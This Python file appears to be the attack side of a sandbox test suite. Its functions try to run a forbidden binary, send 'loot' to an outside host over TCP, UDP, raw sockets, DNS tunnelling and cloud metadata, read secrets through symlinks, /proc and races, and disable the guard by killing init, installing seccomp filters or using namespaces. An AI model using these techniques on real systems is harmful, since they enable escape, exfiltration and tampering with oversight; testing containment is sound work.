"""Attempts in Python: `attack.py NAME`. What each tries to reach comes in variables; whoever runs it looks whether it was reached."""

import asyncio
import ctypes
import mmap
import multiprocessing
import os
import pty
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading

EVIL = os.environ.get("EVIL", "")
STRANGER = os.environ.get("STRANGER", "")
STRANGER6 = os.environ.get("STRANGER6", "")
SECRET = os.environ.get("SECRET", "")
PROTECTED = os.environ.get("PROTECTED", "")
SCRATCH = os.environ.get("SCRATCH", "/tmp")
LIBRARY = os.environ.get("LIBRARY", "")
LOOT = os.environ.get("LOOT", "loot")
INIT = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    return libc.syscall(number, *arguments)


def show(data):
    print(data if isinstance(data, str) else data.decode("latin1"), flush=True)


def copy_of_evil():
    path = f"{SCRATCH}/copy"
    shutil.copyfile(EVIL, path)
    os.chmod(path, 0o755)
    return path


def in_child(do):
    """A child tries, so that an exec does not end the attempt."""
    child = os.fork()
    if child == 0:
        try:
            do()
        finally:
            os._exit(1)
    os.waitpid(child, 0)


# Starting programs


def run():
    subprocess.run([EVIL], check=False)


def system():
    os.system(EVIL)


def shell():
    subprocess.run(f"echo; {EVIL}", shell=True, check=False)


def execv():
    os.execv(EVIL, [EVIL])


def posix_spawn():
    os.waitpid(os.posix_spawn(EVIL, [EVIL], {}), 0)


def pty_spawn():
    in_child(lambda: pty.spawn([EVIL]))


def libc_execve():
    arguments = (ctypes.c_char_p * 2)(EVIL.encode(), None)
    libc.execve(EVIL.encode(), arguments, None)


def raw_execve():
    arguments = (ctypes.c_char_p * 2)(EVIL.encode(), None)
    call(59 if os.uname().machine == "x86_64" else 221, EVIL.encode(), arguments, None)


def memfd():
    fd = os.memfd_create("evil", 0)
    with open(EVIL, "rb") as file:
        os.write(fd, file.read())
    os.execve(f"/proc/self/fd/{fd}", ["evil"], {})


def dropped():
    path = copy_of_evil()
    os.execv(path, [path])


def loader():
    loader_path = "/lib64/ld-linux-x86-64.so.2"
    os.execv(loader_path, [loader_path, os.environ.get("EVIL_DYNAMIC", EVIL)])


def multiprocessing_spawn():
    multiprocessing.set_executable(EVIL)
    multiprocessing.get_context("spawn").Process(target=print).start()


def load_dropped_library():
    path = f"{SCRATCH}/library.so"
    shutil.copyfile(LIBRARY, path)
    ctypes.CDLL(path)


def load_memfd_library():
    fd = os.memfd_create("library", 0)
    with open(LIBRARY, "rb") as file:
        os.write(fd, file.read())
    ctypes.CDLL(f"/proc/self/fd/{fd}")


def by_machine_code(number, first, second, third, later=False):
    """A system call of our own in anonymous memory: mov eax,number; syscall; ret. Later: made executable then."""
    executable = 0 if later else mmap.PROT_EXEC
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | executable)
    code.write(b"\xb8" + number.to_bytes(4, "little") + b"\x0f\x05\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    if later:
        ctypes.CDLL(None).mprotect(ctypes.c_void_p(address), 4096, mmap.PROT_READ | mmap.PROT_EXEC)
    ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_void_p] * 3)(address)(first, second, third)


def machine_code(later=False):
    arguments = (ctypes.c_char_p * 2)(EVIL.encode(), None)
    path = ctypes.create_string_buffer(EVIL.encode())
    by_machine_code(59, ctypes.addressof(path), ctypes.addressof(arguments), None, later)


def machine_code_later():
    machine_code(later=True)


# Reaching the stranger


def greet(connection):
    connection.sendall(LOOT.encode())
    connection.close()


def tcp():
    greet(socket.create_connection((STRANGER, 443), 2))


def tcp_nonblocking():
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex((STRANGER, 443))
    connection.settimeout(1)
    connection.sendall(LOOT.encode())


def tcp6():
    greet(socket.create_connection((STRANGER6, 443), 2))


def tcp_mapped():
    connection = socket.socket(socket.AF_INET6)
    connection.settimeout(2)
    connection.connect((f"::ffff:{STRANGER}", 443))
    greet(connection)


def tcp_fastopen():
    socket.socket().sendto(LOOT.encode(), socket.MSG_FASTOPEN, (STRANGER, 443))


def tcp_thread():
    thread = threading.Thread(target=tcp)
    thread.start()
    thread.join()


def tcp_fork():
    in_child(tcp)


def tcp_asyncio():
    async def connect():
        _, writer = await asyncio.open_connection(STRANGER, 443)
        writer.write(LOOT.encode())
        await writer.drain()

    asyncio.run(connect())


def machine_code_tcp():
    connection = socket.socket()
    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 443) + socket.inet_aton(STRANGER) + bytes(8)
    buffer = ctypes.create_string_buffer(address, len(address))
    by_machine_code(42, connection.fileno(), ctypes.addressof(buffer), len(address))
    greet(connection)


def udp_sendto():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(LOOT.encode(), (STRANGER, 443))


def udp_connect():
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    connection.connect((STRANGER, 443))
    connection.send(LOOT.encode())


def udp_sendmsg():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([LOOT.encode()], [], 0, (STRANGER, 443))


def udp6_sendmsg():
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendmsg([LOOT.encode()], [], 0, (STRANGER6, 443))


def udp_sendmmsg():
    """struct mmsghdr by hand."""
    address = struct.pack("!HH4s8x", 0, 443, socket.inet_aton(STRANGER))
    address = struct.pack("H", socket.AF_INET) + address[2:]
    name, data = ctypes.create_string_buffer(address), ctypes.create_string_buffer(LOOT.encode())
    piece = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(data), len(LOOT)))
    header = struct.pack(
        "PI4xPNPNi4xI4x", ctypes.addressof(name), len(address), ctypes.addressof(piece), 1, 0, 0, 0, 0
    )
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    libc.sendmmsg(connection.fileno(), ctypes.create_string_buffer(header), 1, 0)


def udp_lite():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(LOOT.encode(), (STRANGER, 443))


def raw_socket():
    connection = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    connection.sendto(struct.pack("!HHHH", 9, 443, 8 + len(LOOT), 0) + LOOT.encode(), (STRANGER, 0))


def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    show("REACHED")


def icmp_socket():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    show("REACHED")


def vsock():
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    show("REACHED")


def netlink_audit():
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)
    show("REACHED")


def algorithm_socket():
    socket.socket(38, socket.SOCK_SEQPACKET)
    show("REACHED")


def sctp():
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    connection.connect((STRANGER, 443))
    show("REACHED")


def abstract_socket():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0" + os.environ["ABSTRACT"])
    connection.sendall(LOOT.encode())


def unix_datagram():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(LOOT.encode(), "\0" + os.environ["ABSTRACT"] + "-datagram")


def listen():
    server = socket.create_server(("0.0.0.0", 4445))
    show(f"REACHED {server.getsockname()}")


def listen_any_port():
    server = socket.socket()
    server.listen()
    show(f"REACHED {server.getsockname()}")


def bind_udp():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("0.0.0.0", 4445))
    show("REACHED")


def metadata():
    connection = socket.create_connection(("169.254.169.254", 80), 2)
    connection.sendall(f"GET /{LOOT} HTTP/1.0\r\n\r\n".encode())
    connection.recv(100)


def rebound_metadata():
    connection = socket.create_connection(("rebound.lab.test", 80), 2)
    connection.sendall(f"GET /{LOOT} HTTP/1.0\r\n\r\n".encode())
    connection.recv(100)


def wrong_port():
    connection = socket.create_connection(("api.lab.test", 81), 2)
    greet(connection)


# Letting data out by names


def lookup():
    socket.getaddrinfo(f"{LOOT}.stranger.test", 80)


def reverse_lookup():
    socket.gethostbyaddr(STRANGER)


def query(name, kind=16):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def raw_query():
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    connection.settimeout(1)
    connection.sendto(query(f"{LOOT}.stranger.test"), ("192.0.2.53", 53))
    connection.recv(512)


def raw_query_to_stranger():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query(f"{LOOT}.lab.test"), (STRANGER, 53))


def loot_behind_query():
    """An allowed question with the loot appended to the packet."""
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    connection.sendto(query("api.lab.test", 1) + LOOT.encode(), ("192.0.2.53", 53))


def tcp_query():
    connection = socket.create_connection(("192.0.2.53", 53), 2)
    question = query(f"{LOOT}.stranger.test")
    connection.sendall(struct.pack("!H", len(question)) + question)
    connection.settimeout(1)
    connection.recv(512)


def dns_over_tls():
    greet(socket.create_connection((STRANGER, 853), 2))


# Files


def read():
    show(open(SECRET).read())


def read_symlink():
    os.symlink(SECRET, f"{SCRATCH}/link")
    show(open(f"{SCRATCH}/link").read())


def read_proc_root():
    show(open(f"/proc/self/root{SECRET}").read())


def read_proc_cwd():
    os.chdir(os.path.dirname(SECRET))
    show(open(f"/proc/self/cwd/{os.path.basename(SECRET)}").read())


def read_dot_dot():
    show(open(f"{SCRATCH}/../../..{SECRET}").read())


def read_relative():
    os.chdir(os.path.dirname(SECRET))
    show(open(os.path.basename(SECRET)).read())


def read_folder_descriptor():
    folder = os.open(os.path.dirname(SECRET), os.O_PATH)
    show(os.read(os.open(os.path.basename(SECRET), os.O_RDONLY, dir_fd=folder), 100))


def read_path_descriptor():
    handle = os.open(SECRET, os.O_PATH)
    show(open(f"/proc/self/fd/{handle}").read())


def read_hard_link():
    os.link(SECRET, f"{SCRATCH}/second-name")
    show(open(f"{SCRATCH}/second-name").read())


def read_renamed():
    os.rename(SECRET, f"{SCRATCH}/renamed")
    show(open(f"{SCRATCH}/renamed").read())


def read_read_write():
    show(os.read(os.open(SECRET, os.O_RDWR), 100))


def read_openat2():
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    fd = call(437, -100, SECRET.encode(), ctypes.create_string_buffer(how), len(how))
    show(os.read(fd, 100))


def read_thread_self():
    show(open(f"/proc/thread-self/root{SECRET}").read())


def read_in_child():
    in_child(read)


def read_race():
    """A symlink that changes between an innocent file and the secret."""
    innocent, link = f"{SCRATCH}/innocent", f"{SCRATCH}/racing"
    open(innocent, "w").close()

    def swap():
        while True:
            for target in (innocent, SECRET):
                os.symlink(target, f"{link}.new")
                os.rename(f"{link}.new", link)

    threading.Thread(target=swap, daemon=True).start()
    for _ in range(int(os.environ.get("TRIES", "2000"))):
        try:
            data = open(link).read()
        except OSError:
            continue
        if data:
            show(data)
            return


def read_init_memory():
    show(open(f"/proc/{INIT}/mem", "rb").read(1))
    show("REACHED")


def read_init_environment():
    show(open(f"/proc/{INIT}/environ", "rb").read())
    show("REACHED")


def read_environment():
    show(open("/proc/self/environ", "rb").read())


def child_environment():
    show(subprocess.run(["/usr/bin/env"], capture_output=True, check=False).stdout)


def write():
    open(f"{PROTECTED}/file", "w").write("OVERWRITTEN")


def write_append():
    open(f"{PROTECTED}/file", "a").write("OVERWRITTEN")


def write_symlink():
    os.symlink(f"{PROTECTED}/file", f"{SCRATCH}/to-protected")
    open(f"{SCRATCH}/to-protected", "w").write("OVERWRITTEN")


def write_hard_link():
    os.link(f"{PROTECTED}/file", f"{SCRATCH}/hard")
    open(f"{SCRATCH}/hard", "w").write("OVERWRITTEN")


def write_rename():
    open(f"{SCRATCH}/new", "w").write("OVERWRITTEN")
    os.rename(f"{SCRATCH}/new", f"{PROTECTED}/file")


def write_truncate():
    os.truncate(f"{PROTECTED}/file", 0)


def write_unlink():
    os.unlink(f"{PROTECTED}/file")


def write_new():
    os.close(os.open(f"{PROTECTED}/new", os.O_CREAT | os.O_WRONLY))


def write_folder():
    os.mkdir(f"{PROTECTED}/new")


def write_tmpfile():
    fd = os.open(PROTECTED, os.O_TMPFILE | os.O_WRONLY)
    os.write(fd, b"OVERWRITTEN")
    os.link(f"/proc/self/fd/{fd}", f"{PROTECTED}/new", src_dir_fd=fd)  # so that Python follows the link


def write_chmod():
    os.chmod(f"{PROTECTED}/file", 0o777)


def write_symlink_into():
    os.symlink("/etc/passwd", f"{PROTECTED}/new")


def write_socket():
    server = socket.socket(socket.AF_UNIX)
    server.bind(f"{PROTECTED}/new")


def write_fifo():
    os.mkfifo(f"{PROTECTED}/new")


def write_exchange():
    """renameat2 with RENAME_EXCHANGE."""
    open(f"{SCRATCH}/other", "w").write("OVERWRITTEN")
    call(316, -100, f"{SCRATCH}/other".encode(), -100, f"{PROTECTED}/file".encode(), 2)


# The guard itself. Each ends with an attempt at something forbidden.


def then_try():
    for attempt in (run, tcp):
        try:
            attempt()
        except OSError:
            pass


def kill_init():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGALRM):
        try:
            os.kill(INIT, number)
        except OSError:
            pass
    then_try()


def kill_init_group():
    for target in (-INIT, -1, 0):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        try:
            os.kill(target, signal.SIGTERM)
        except OSError:
            pass
    then_try()


def trace_init():
    call(101, 16, INIT, 0, 0)
    then_try()


def write_init_memory():
    local = ctypes.create_string_buffer(8)
    pieces = struct.pack("PN", ctypes.addressof(local), 8), struct.pack("PN", 0x400000, 8)
    call(311, INIT, pieces[0], 1, pieces[1], 1, 0)
    try:
        open(f"/proc/{INIT}/mem", "r+b").write(b"x")
    except OSError:
        pass
    then_try()


def limit_init():
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS):
        try:
            resource.prlimit(INIT, kind, (0, 0))
        except OSError:
            pass
    then_try()


def close_descriptors():
    os.closerange(3, 4096)
    then_try()


def exhaust_descriptors():
    resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
    held = []
    try:
        while True:
            held.append(os.dup(0))
    except OSError:
        pass
    for fd in held[:8]:
        os.close(fd)
    then_try()


def exhaust_processes():
    children = []
    for _ in range(200):
        child = os.fork()
        if child == 0:
            signal.pause()
        children.append(child)
    then_try()
    for child in children:
        os.kill(child, signal.SIGKILL)


def flood():
    for number in range(3000):
        try:
            os.execv(f"/usr/bin/none-{number}/../true", ["true"])
        except OSError:
            pass
        try:
            os.execv(EVIL, [EVIL, str(number)])
        except OSError:
            pass
    then_try()


def own_filter():
    """A seccomp filter of our own that answers execve before the guard could."""
    libc.prctl(38, 1, 0, 0, 0)
    instructions = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
    buffer = ctypes.create_string_buffer(instructions)
    program = ctypes.create_string_buffer(struct.pack("H6xP", 1, ctypes.addressof(buffer)))
    call(317, 1, 0, program)
    then_try()


def user_namespace():
    """A root of our own, with the evil program at the place of an allowed one."""
    libc.unshare(0x10000000 | 0x00020000)
    libc.mount(EVIL.encode(), b"/usr/bin/true", None, 4096, None)
    try:
        os.execv("/usr/bin/true", ["true"])
    except OSError:
        pass
    then_try()


def without_environment():
    """Children get an empty environment; one that is allowed starts one that is not."""
    in_child(lambda: os.execve("/usr/bin/env", ["env", "-i", EVIL], {}))
    then_try()


def remove_guard_files():
    folder = os.environ.get("GUARD_FOLDER", "/nowhere")
    for name in ("init", "policy", "guard.so"):
        for attempt in (os.unlink, lambda path: open(path, "w"), lambda path: os.rename(path, f"{SCRATCH}/{name}")):
            try:
                attempt(f"{folder}/{name}")
            except OSError:
                pass
    then_try()


def spray_loopback():
    """Rubbish to every listener on loopback that could be the init's."""
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        address, state = line.split()[1], line.split()[3]
        if state != "0A" or not address.startswith("0100007F"):
            continue
        for rubbish in (b"\xff" * 70000, b"GET / HTTP/1.1\r\nContent-Length: -1\r\n\r\n", b"\x00\x01x"):
            try:
                connection = socket.create_connection(("127.0.0.1", int(address.split(":")[1], 16)), 1)
                connection.settimeout(0.2)
                connection.sendall(rubbish)
                connection.recv(10)
            except OSError:
                pass
    then_try()


def io_uring():
    fd = call(425, 8, ctypes.create_string_buffer(120))
    if fd >= 0:
        show("REACHED")


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]]()
    except OSError as error:
        print(f"REFUSED {error.errno}", flush=True)
